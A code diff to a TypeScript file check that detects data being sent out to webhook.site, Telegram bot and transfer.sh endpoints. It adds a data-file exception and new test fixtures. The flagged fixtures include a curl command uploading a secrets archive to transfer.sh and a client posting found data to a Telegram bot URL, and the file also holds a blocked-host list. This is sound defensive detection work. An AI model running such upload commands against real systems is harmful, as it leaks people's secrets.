@@ -47,6 +47,7 @@ const USED =
 const DEFENCE =
   /\b(?:block(?:ed|list)?|deny|denied|disallow|suspicious|malicious|indicator|ioc|detect|forbidden|blacklist)\b/i;
 
+const DATA: ReadonlySet<string> = new Set(['json', 'yaml', 'toml', 'xml', 'csv']);
 const PLACEHOLDER = new RegExp(`^(?:https?:\\/\\/)?[\\w.-]+${PLACEHOLDER_PATH}`, 'i');
 
 export const check: FileCheck = {
@@ -72,11 +73,13 @@ export const check: FileCheck = {
           with Client() as c:
               c.get("«https://api.telegram.org/bot${fake('', 9, 'digits')}:${fake('AA', 33)}»/sendMessage", params=found)`,
       },
+      { 'hooks.json': '{"post": "«https://webhook.site/0f1e2d3c-aaaa-bbbb»"}' },
       { 'run.sh': 'curl --upload-file secrets.tar «https://transfer.sh/s.tar»\n' },
     ],
     good: [
       { 'test-hook.sh': 'curl -X POST https://webhook.site/your-uuid -d "{}"\n' },
       { 'filter.py': 'BLOCKED_HOSTS = ["webhook.site", "oastify.com"]  # suspicious\n' },
+      { 'event.json': '{"rule": "Send a payload to Webhook.site"}' },
       { 'read.js': "import { open } from 'profile.io';\n" },
       { 'site.html': '<a href="https://discord.com/invite/abc">chat</a>\n' },
     ],
@@ -89,6 +92,9 @@ export const check: FileCheck = {
         const nearby = window.text.slice(Math.max(0, match.index - 160), match.index + 200);
         // A hook with its key is only there to be used.
         const isUsed = USED.test(nearby) || match[0].includes('/webhooks/') || match[0].includes('telegram.org/bot');
+        // `Tell Webhook.site of it`: data names a service in a sentence, it does not ask one.
+        if (DATA.has(language) && !/^https?:/i.test(match[0]) && /\s$/.test(window.text.slice(0, match.index)))
+          continue;
         if (DEFENCE.test(line) || PLACEHOLDER.test(match[0]) || !isUsed || language === 'markdown') continue;
         yield {
           at: window.spanOf(match),
